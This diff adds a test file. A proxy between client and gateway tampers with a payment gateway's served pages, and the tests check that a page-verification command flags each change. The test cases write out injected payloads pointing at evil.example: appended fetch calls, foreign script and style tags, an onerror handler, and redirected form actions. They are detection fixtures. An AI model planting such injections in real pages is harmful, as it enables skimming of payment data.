@@ -1,0 +1,98 @@
+/** `verify-page` against a gateway whose answers somebody changes on their way: each change is named, and none is invented. */
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
+import { compareServed } from '#commands/verify-page.ts'
+import { openDatabase } from '#storage/database.ts'
+import { createInstallation } from '#storage/installation.ts'
+import { masterKeyOf, startTestGateway, type TestGateway } from '#test/support/gateway.ts'
+import { openPageShop } from '#test/support/page-shop.ts'
+import { type DerivedKeys, openDerivedKeys } from '#vault/key-ring.ts'
+import { toMasterKey } from '#vault/master-key.ts'
+
+type Change = (path: string, text: string) => string
+
+let gateway: TestGateway
+let between: Server
+let origin: string
+let page: string
+let keys: DerivedKeys
+let change: Change
+let dropPolicy = false
+
+beforeAll(async () => {
+  gateway = await startTestGateway()
+  between = createServer(async (request, response) => {
+    const path = request.url ?? '/'
+    const asked = await fetch(`${gateway.url}${path}`, { redirect: 'manual' })
+    const body = change(path, await asked.text())
+    const policy = asked.headers.get('content-security-policy')
+    if (policy && !dropPolicy) response.setHeader('content-security-policy', policy)
+    response.writeHead(asked.status).end(body)
+  })
+  await new Promise<void>(resolve => between.listen(0, '127.0.0.1', resolve))
+  origin = `http://127.0.0.1:${(between.address() as AddressInfo).port}`
+  const shop = await openPageShop(gateway, {
+    urls: { return: 'https://shop.example/a', cancel: 'https://shop.example/b' },
+  })
+  page = `${origin}${new URL((await shop.session()).href).pathname}`
+  const database = openDatabase(gateway.databaseUrl, error => expect(error).toBeUndefined())
+  const master = toMasterKey(masterKeyOf(gateway.databaseUrl), 'the test key')
+  keys = await openDerivedKeys(master, createInstallation(database))
+  await database.close()
+})
+beforeEach(() => {
+  change = (_, text) => text
+  dropPolicy = false
+})
+afterAll(async () => {
+  await new Promise(resolve => between.close(resolve))
+  await gateway.stop()
+})
+
+const verify = (): Promise<readonly string[]> => compareServed(origin, page, keys)
+const inPage = (from: string | RegExp, to: string) => {
+  change = (path, text) => (path.startsWith('/pay/assets/') ? text : text.replace(from, to))
+}
+
+test('nothing is found on pages as they are', async () => {
+  expect(await verify()).toEqual([])
+})
+
+test('a script that was changed', async () => {
+  change = (path, text) => (path.endsWith('.js') ? `${text}\nfetch('https://evil.example')` : text)
+  expect((await verify()).join()).toMatch(/\.js was changed/)
+})
+
+test('a list that was changed with it has no right signature', async () => {
+  change = (path, text) => (path.includes('inventory') ? text.replace('sha384-', 'sha384-A') : text)
+  expect(await verify()).toEqual([
+    'the list of files is not signed by this installation',
+    'the list of files is not that of this version',
+  ])
+})
+
+test.each([
+  ['<script src="https://evil.example/x.js"></script>', 'a script that is not on the list'],
+  ['<script>steal()</script>', 'a script that is not on the list'],
+  ['<link rel="stylesheet" href="https://evil.example/x.css">', 'a style that is not on the list'],
+  ['<base href="https://evil.example/">', 'something that is not ours'],
+  ['<iframe src="https://evil.example/"></iframe>', 'something that is not ours'],
+  ['<img src=x onerror="steal()">', 'something that is not ours'],
+  ['<form method="post" action="https://evil.example/">', 'something that is not ours'],
+  ['<button formaction="//evil.example/">Pay</button>', 'something that is not ours'],
+])('a page with %s', async (added, found) => {
+  inPage(/<body[^>]*>/, `$&${added}`)
+  const differences = await verify()
+  expect(differences).toHaveLength(1)
+  expect(differences[0]).toContain(found)
+})
+
+test('a page without its policy', async () => {
+  dropPolicy = true
+  expect(await verify()).toEqual([
+    "the policy of the page lacks default-src 'none'",
+    "the policy of the page lacks script-src 'self'",
+    "the policy of the page lacks connect-src 'self'",
+  ])
+})
